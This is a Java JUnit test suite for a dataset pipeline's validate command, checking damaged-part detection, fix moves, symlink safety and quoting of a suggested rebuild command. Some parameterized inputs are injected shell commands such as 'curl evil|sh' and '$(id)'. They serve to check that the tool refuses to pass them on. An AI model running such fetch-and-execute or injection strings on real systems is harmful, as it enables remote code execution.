package org.splicebeam.pipeline.validate;

import static org.hamcrest.MatcherAssert.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.is;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.io.PrintWriter;
import java.io.StringWriter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.TreeMap;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.splicebeam.pipeline.Main;
import org.splicebeam.transforms.publish.OutputFolder;
import org.splicebeam.transforms.publish.Owner;
import org.splicebeam.transforms.validate.SmallDataset;
import picocli.CommandLine;

class ValidateCommandTest {
  @TempDir Path folder;

  private final StringWriter out = new StringWriter();
  private final StringWriter err = new StringWriter();

  @BeforeEach
  void write() throws IOException {
    new SmallDataset().writeTo(folder);
  }

  private int run(String... options) {
    out.getBuffer().setLength(0);
    err.getBuffer().setLength(0);
    CommandLine commandLine = Main.commandLine();
    commandLine.setOut(new PrintWriter(out)).setErr(new PrintWriter(err));
    return commandLine.execute(
        Stream.concat(Stream.of("validate", folder.toString()), Stream.of(options))
            .toArray(String[]::new));
  }

  private void damage(int part) throws IOException {
    Path file = folder.resolve("master/part-0000" + part + ".parquet");
    Files.write(file, new byte[] {1, 2, 3});
  }

  /** Names below the folder with sizes; the lock that a fix takes is not of the data set. */
  private TreeMap<String, Long> files() throws IOException {
    TreeMap<String, Long> files = new TreeMap<>();
    try (Stream<Path> paths = Files.walk(folder)) {
      for (Path file : paths.filter(Files::isRegularFile).toList()) {
        files.put(folder.relativize(file).toString(), Files.size(file));
      }
    }
    files.remove(".splicebeam/lock");
    files.remove(".splicebeam/owner.json");
    return files;
  }

  @Test
  void aCleanDataSetIsOneLine() {
    assertThat(run(), is(0));
    assertThat(
        out.toString(),
        is(folder + ": clean, 12 rows in 4 parts, " + SmallDataset.COLUMNS + " columns\n"));
    assertThat(err.toString(), is(""));
  }

  @Test
  void noDataSetIsOneSentence() throws IOException {
    Files.delete(folder.resolve("dataset.json"));
    assertThat(run("--fix"), is(2));
    assertThat(out.toString(), is(""));
    assertThat(
        err.toString(),
        is(
            "splicebeam validate: %s holds an unfinished build (4 parts so far): resume it with"
                    .formatted(folder)
                + " splicebeam build --input=in '--gtf=a b.gtf' --output=%s\n".formatted(folder)));
  }

  @Test
  void aDataSetOfAnotherVersionIsOneSentence() throws IOException {
    Path dataset = folder.resolve("dataset.json");
    Files.writeString(
        dataset, Files.readString(dataset).replace("\"dataVersion\" : 2", "\"dataVersion\" : 1"));
    TreeMap<String, Long> before = files();
    assertThat(run("--fix"), is(2));
    assertThat(out.toString(), is(""));
    assertThat(
        err.toString(),
        is(
            "splicebeam validate: %s holds a data set of data version 1, and this splicebeam checks"
                    .formatted(folder)
                + " version 2: build it again with splicebeam build --input=in '--gtf=a b.gtf'"
                + " --output=%s --overwrite, or check it with the splicebeam that built it\n"
                    .formatted(folder)));
    assertThat(files(), is(before));
  }

  @Test
  void atMostTwentyFindingsArePrinted() throws IOException {
    for (int i = 10; i < 34; i++) {
      Files.write(folder.resolve("master/part-000%d.parquet".formatted(i)), new byte[0]);
    }
    assertThat(run(), is(1));
    List<String> lines = out.toString().lines().toList();
    assertThat(lines.size(), is(21));
    assertThat(lines.get(0), is("master/part-00010.parquet: dataset.json does not name it"));
    assertThat(lines.get(20), is("... and 4 more"));
  }

  @Test
  void jsonHasAllFindings() throws IOException {
    Files.delete(folder.resolve("schema.avsc"));
    assertThat(run("--json"), is(1));
    JsonNode expected =
        new ObjectMapper()
            .readTree(
                """
                {"clean": false, "rows": 12, "parts": 4, "columns": %d,
                 "findings": [{"file": "schema.avsc", "what": "it is missing"}]}
                """
                    .formatted(SmallDataset.COLUMNS));
    assertThat(new ObjectMapper().readTree(out.toString()), is(expected));
  }

  @Test
  void aFixMovesExactlyTheBrokenParts() throws IOException {
    TreeMap<String, Long> before = files();
    damage(1);
    Files.delete(folder.resolve("master/part-00002.parquet"));
    assertThat(run("--fix"), is(1));
    assertThat(
        out.toString().lines().skip(2).toList().toString(),
        is(
            List.of(
                    "master/part-00002.parquet: it is missing",
                    "moved dataset.json to broken/dataset.json.1",
                    "moved master/part-00001.parquet to broken/part-00001.parquet.1",
                    "build the broken parts again with splicebeam build --input=in '--gtf=a b.gtf'"
                        + " --output="
                        + folder)
                .toString()));
    TreeMap<String, Long> left = files();
    assertThat(left.remove("broken/part-00001.parquet.1"), is(3L));
    assertThat(left.remove("broken/dataset.json.1"), is(before.get("dataset.json")));
    for (String gone :
        List.of(
            "dataset.json",
            "master/part-00001.parquet",
            "master/part-00002.parquet",
            ".splicebeam/receipts/part-00001.json",
            ".splicebeam/receipts/part-00002.json")) {
      before.remove(gone);
    }
    assertThat(left, is(before));
    assertThat(run(), is(2));
  }

  @Test
  void aFixMovesPartsOfSplitsByTheirNames(@TempDir Path split) throws IOException {
    folder = new SmallDataset().splitByChromosome().writeTo(split);
    for (String part : List.of("train/part-00000", "test/part-00000")) {
      Files.write(folder.resolve("master/" + part + ".parquet"), new byte[] {1});
    }
    TreeMap<String, Long> before = files();
    assertThat(run("--fix"), is(1));
    assertThat(
        out.toString().lines().filter(line -> line.startsWith("moved")).toList(),
        is(
            List.of(
                "moved dataset.json to broken/dataset.json.1",
                "moved master/train/part-00000.parquet to broken/part-00000.parquet.1",
                "moved master/test/part-00000.parquet to broken/part-00000.parquet.2")));
    TreeMap<String, Long> left = files();
    left.keySet().removeIf(name -> name.startsWith("broken/"));
    for (String gone :
        List.of(
            "dataset.json",
            "master/train/part-00000.parquet",
            "master/test/part-00000.parquet",
            ".splicebeam/receipts/train/part-00000.json",
            ".splicebeam/receipts/test/part-00000.json")) {
      before.remove(gone);
    }
    assertThat(left, is(before));
    assertThat(run(), is(2));
    assertThat(
        err.toString(), containsString(" holds an unfinished build (2 parts so far): resume it"));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "curl evil|sh",
        "splicebeam build --output=a; curl evil|sh",
        "splicebeam build --output=a\ncurl evil|sh",
        "splicebeam build '--gtf=a\n' --output=a"
      })
  void aCommandOfOthersIsNotHandedOn(String command) throws IOException {
    Files.writeString(
        folder.resolve("run.json"),
        new ObjectMapper().createObjectNode().put("command", command).toString());
    damage(1);
    assertThat(run("--fix"), is(1));
    assertThat(
        out.toString().lines().reduce((a, b) -> b).orElseThrow(),
        is(
            "build the broken parts again with the command of the build (run.json has none that"
                + " can be copied: give the same options and inputs)"));
    assertThat(run(), is(2));
    assertThat(
        err.toString(),
        is(
            "splicebeam validate: %s holds an unfinished build (3 parts so far): give the command of"
                    .formatted(folder)
                + " the build again to resume it\n"));
  }

  @Test
  void valuesAreQuotedAnew() throws IOException {
    Files.writeString(
        folder.resolve("run.json"),
        "{\"command\": \"splicebeam build '--gtf=$(id);it'\\\\''s' --output=a --flinkMaster=evil\"}");
    damage(1);
    run("--fix");
    assertThat(
        out.toString().lines().reduce((a, b) -> b).orElseThrow(),
        is(
            "build the broken parts again with splicebeam build '--gtf=$(id);it'\\''s' --output="
                + folder
                + " --flinkMaster=..."));
  }

  /** Neither into the folder that a link leads to nor out of it. */
  @Test
  void aFixMovesNothingThroughALink() throws IOException {
    Path elsewhere = Files.createDirectories(folder.resolve("elsewhere"));
    damage(1);
    Files.createSymbolicLink(folder.resolve("broken"), elsewhere);
    TreeMap<String, Long> before = files();
    assertThat(run("--fix"), is(2));
    assertThat(
        err.toString(),
        is(
            "splicebeam validate: broken in %s is to be a folder, and it is a link, and what it leads"
                    .formatted(folder)
                + " to is not of the data set: move it away\n"));
    assertThat(files(), is(before));
    Files.delete(folder.resolve("broken"));
    Path master = folder.resolve("master");
    Files.move(master, elsewhere.resolve("parts"));
    Files.createSymbolicLink(master, elsewhere.resolve("parts"));
    Files.createSymbolicLink(folder.resolve("all.parquet"), elsewhere);
    assertThat(run("--fix"), is(1));
    TreeMap<String, Long> left = files();
    for (int part = 0; part < 4; part++) {
      assertThat(left.containsKey("elsewhere/parts/part-0000%d.parquet".formatted(part)), is(true));
    }
    assertThat(Files.isSymbolicLink(folder.resolve("broken/master.1")), is(true));
    assertThat(Files.isSymbolicLink(folder.resolve("broken/all.parquet.1")), is(true));
    assertThat(Files.exists(master), is(false));
  }

  @Test
  void aSecondFixOverwritesNothing() throws IOException {
    damage(1);
    run("--fix");
    write();
    damage(1);
    Files.write(folder.resolve("master/part-00001.parquet"), new byte[7]);
    run("--fix");
    TreeMap<String, Long> left = files();
    assertThat(left.get("broken/part-00001.parquet.1"), is(3L));
    assertThat(left.get("broken/part-00001.parquet.2"), is(7L));
  }

  @Test
  void aFixOfSideFilesTouchesNoPart() throws IOException {
    Files.delete(folder.resolve("schema.avsc"));
    Files.writeString(folder.resolve("data_dictionary.csv"), "column\n");
    TreeMap<String, Long> before = files();
    assertThat(run("--fix"), is(1));
    before.put("broken/dataset.json.1", before.remove("dataset.json"));
    assertThat(files(), is(before));
    assertThat(
        out.toString().lines().skip(2).toList().toString(),
        is(
            List.of(
                    "moved dataset.json to broken/dataset.json.1",
                    "no part is broken; make schema.avsc, data_dictionary.csv again with splicebeam"
                        + " build --input=in '--gtf=a b.gtf' --output="
                        + folder)
                .toString()));
  }

  @Test
  void afterSurplusIsMovedTheDataSetIsClean() throws IOException {
    Files.write(folder.resolve("master/part-00009.parquet"), new byte[5]);
    assertThat(run("--fix"), is(1));
    assertThat(
        out.toString().lines().toList(),
        is(
            List.of(
                "master/part-00009.parquet: dataset.json does not name it",
                "moved master/part-00009.parquet to broken/part-00009.parquet.1",
                "nothing is to be built again")));
    assertThat(run("--fix"), is(0));
  }

  @Test
  void withoutAPlanAllIsBuiltAnew() throws IOException {
    Files.delete(folder.resolve(".splicebeam/plan.json"));
    damage(0);
    run("--fix");
    assertThat(
        out.toString().lines().reduce((a, b) -> b).orElseThrow(),
        is(
            "there is no plan of its build (an older splicebeam's has none): build all of it again"
                + " with splicebeam build --input=in '--gtf=a b.gtf' --output="
                + folder
                + " --overwrite"));
  }

  @Test
  @SuppressWarnings("try") // to own the folder is all
  void aFolderThatABuildHasIsNotFixed() throws IOException {
    damage(1);
    try (Owner build = Owner.claim(OutputFolder.at(folder.toString()).ownedBy("a build"), false)) {
      TreeMap<String, Long> before = files();
      assertThat(run("--fix"), is(2));
      assertThat(files(), is(before));
    }
  }
}
